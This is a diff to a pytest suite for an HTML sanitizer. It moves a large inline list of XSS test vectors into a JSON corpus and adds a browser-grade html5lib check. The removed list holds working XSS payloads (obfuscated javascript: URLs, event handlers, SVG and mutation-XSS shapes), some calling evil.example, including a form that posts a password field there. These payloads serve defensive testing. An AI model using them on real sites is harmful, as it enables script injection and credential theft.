@@ -1,9 +1,12 @@
 """The upstream HTML policy (DESIGN.md section 6): what `sanitize_html` keeps, strips and drops."""
 
+import json
 import re
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
+from bleach._vendor import html5lib
 
 from portal.sanitize import sanitize_html
 
@@ -85,144 +88,56 @@ def assert_no_active_content(output: str) -> None:
     assert "<script" not in output.lower()
 
 
-# Hostile vectors: each one's output must pass the no-active-content check.
-HOSTILE = [
-    # script tags in many spellings
-    "<script>alert(1)</script>",
-    "<SCRIPT>alert(1)</SCRIPT>",
-    "<ScRiPt >alert(1)</ScRiPt>",
-    "<script\n>alert(1)</script\n>",
-    "<script/xss>alert(1)</script>",
-    "<script src=//evil.example/x.js></script>",
-    '<script type="text/template">alert(1)</script>',
-    "<script>alert(1)",
-    "<ScRipT>alert(1)//",
-    "<SCRIPT SRC=http://evil.example/x.js?< B >",
-    "<scr<script>ipt>alert(1)</script>",
-    "<<script>script>alert(1)<</script>/script>",
-    "<scri\x00pt>alert(1)</script>",
-    "<script>/*</script><p>after</p>",
-    "<!--<script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    # event handlers on allowed and disallowed tags
-    "<p onclick=alert(1)>p</p>",
-    '<a href="https://ok.example/" onmouseover="alert(1)">x</a>',
-    "<strong onmouseover=alert(1)>s</strong>",
-    "<li onfocus=alert(1) tabindex=0>li</li>",
-    "<br onload=alert(1)>",
-    "<img src=x onerror=alert(1)>",
-    '<img src="x" onerror="alert(1)">after',
-    "<body onload=alert(1)>b",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<marquee onstart=alert(1)>m</marquee>",
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    # dangerous URLs with entity, whitespace and case obfuscation
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="jav&#x09;ascript:alert(1)">x</a>',
-    '<a href="java\nscript:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="&#x6A;avascript:alert(1)">x</a>',
-    '<a href="javascript&colon;alert(1)">x</a>',
-    '<a href="javascript&#58;alert(1)">x</a>',
-    '<a href="&Tab;javascript:alert(1)">x</a>',
-    '<a href="jav&NewLine;ascript:alert(1)">x</a>',
-    '<a href="\x01javascript:alert(1)">x</a>',
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=`javascript:alert(1)`>x</a>",
-    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
-    '&#0000112&#0000116&#0000058alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="https://ok.example/" href="javascript:alert(1)">x</a>',
-    "<IMG SRC=JaVaScRiPt:alert(1)>",
-    '<ul><li><a href="javascript:alert(1)"><b>x</b></a></li></ul>',
-    # relative and protocol-relative links
-    '<a href="/admin/">x</a>',
-    '<a href="//evil.example/x">x</a>',
-    '<a href="evil.html">x</a>',
-    '<a href="#top">x</a>',
-    '<a href="  https://ok.example/">x</a>',
-    # SVG and MathML tricks
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>clickme</text></a></svg>',
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    '<svg><set attributeName="onmouseover" to="alert(1)"/>',
-    '<math href="javascript:alert(1)">CLICKME</math>',
-    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    # mutation-XSS shapes
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<noscript><style></noscript><img src=x onerror=alert(1)>",
-    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    '<template><img src=x onerror="alert(1)"></template>',
-    "<textarea><script>alert(1)</script></textarea>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<plaintext><script>alert(1)</script>",
-    # broken and unclosed markup
-    "<p>unclosed <b>bold",
-    "<li>one<li>two",
-    "<img src=x onerror=alert(1)",
-    "<p>text <b",
-    '<a href="https://ok.example/"',
-    "</",
-    "<!",
-    "<p>a < b and c > d & e</p>",
-    "<?xml version='1.0'?><p>x</p>",
-    "<!DOCTYPE html><p>x</p>",
-    # CSS
-    '<p style="width:expression(alert(1))">p</p>',
-    '<div style="background:url(javascript:alert(1))">d</div>',
-    "<style>@import 'javascript:alert(1)';</style>",
-    "<style>body{display:none}</style>text",
-    '<link rel="stylesheet" href="javascript:alert(1)">',
-    # meta refresh, base href
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<p><meta http-equiv="refresh" content="0;url=https://evil.example/"></p>',
-    '<base href="javascript:alert(1)//">',
-    '<base href="https://evil.example/">',
-    # forms and inputs
-    '<form action="javascript:alert(1)"><input name=x><button>go</button></form>',
-    '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
-    '<button formaction="javascript:alert(1)">b</button>',
-    "<isindex action=javascript:alert(1) type=image>",
-    "<select><option><script>alert(1)</script></option></select>",
-    # object, embed, iframes
-    '<object data="javascript:alert(1)"></object>',
-    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">fallback</object>',
-    '<embed src="javascript:alert(1)">',
-    '<embed src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
-    '<applet code="x">alert(1)</applet>',
-    '<iframe src="javascript:alert(1)"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-    '<frameset><frame src="javascript:alert(1)"></frameset>',
-    '<table><td background="javascript:alert(1)">t</td></table>',
+# Hostile vectors, one per entry of tests/data/hostile_vectors.json (with a category each):
+# every one's output must pass the no-active-content check. The same corpus goes through every
+# upstream field in tests/test_hostile_upstream.py and into a real browser in
+# tests/test_browser_inert.py.
+CORPUS_FILE = Path(__file__).parent / "data" / "hostile_vectors.json"
+HOSTILE_CORPUS: list[dict[str, str]] = json.loads(CORPUS_FILE.read_text())
+HOSTILE = [entry["vector"] for entry in HOSTILE_CORPUS]
+HOSTILE_IDS = [
+    f"{n}-{re.sub(r'[^a-z]+', '-', entry['category'])}" for n, entry in enumerate(HOSTILE_CORPUS)
 ]
 
 
-@pytest.mark.parametrize("vector", HOSTILE)
+@pytest.mark.parametrize("vector", HOSTILE, ids=HOSTILE_IDS)
 def test_no_hostile_vector_leaves_active_content(vector):
     assert_no_active_content(sanitize_html(vector))
 
 
-@pytest.mark.parametrize("vector", HOSTILE)
+@pytest.mark.parametrize("vector", HOSTILE, ids=HOSTILE_IDS)
+def test_a_browser_grade_parser_finds_nothing_active_in_the_output(vector):
+    # html.parser is lenient in its own way; html5lib parses as the HTML standard (and so
+    # browsers) does, so a fragment that only html.parser reads as harmless is caught here.
+    output = sanitize_html(vector)
+    fragment = html5lib.parseFragment(output, namespaceHTMLElements=False)
+    for element in fragment.iter():
+        if element is fragment:
+            continue
+        assert isinstance(element.tag, str), f"{element.tag!r} in {output!r}"
+        assert element.tag in ALLOWED_TAGS, f"<{element.tag}> in {output!r}"
+        attributes = dict(element.attrib)
+        if element.tag != "a":
+            assert not attributes, f"<{element.tag} {attributes}> in {output!r}"
+            continue
+        assert set(attributes) <= {"href", "rel"}, f"<a {attributes}> in {output!r}"
+        assert attributes.get("rel") == REL, output
+        href = re.sub(r"[\x00-\x20]", "", attributes.get("href", "https:"))
+        assert href.lower().startswith(ALLOWED_SCHEMES), f"href {href!r} in {output!r}"
+
+
+@pytest.mark.parametrize("vector", HOSTILE, ids=HOSTILE_IDS)
 def test_sanitizing_the_output_again_changes_nothing(vector):
     # A fragment that reads differently the second time round is how mutation XSS starts.
     once = sanitize_html(vector)
     assert sanitize_html(once) == once
 
 
-def test_the_hostile_corpus_is_large():
-    assert len(HOSTILE) >= 60
+def test_the_hostile_corpus_is_large_varied_and_free_of_duplicates():
+    assert len(HOSTILE) >= 150
+    assert len(set(HOSTILE)) == len(HOSTILE)
+    categories = {entry["category"] for entry in HOSTILE_CORPUS}
+    assert len(categories) >= 12, categories
 
 
 @pytest.mark.parametrize(
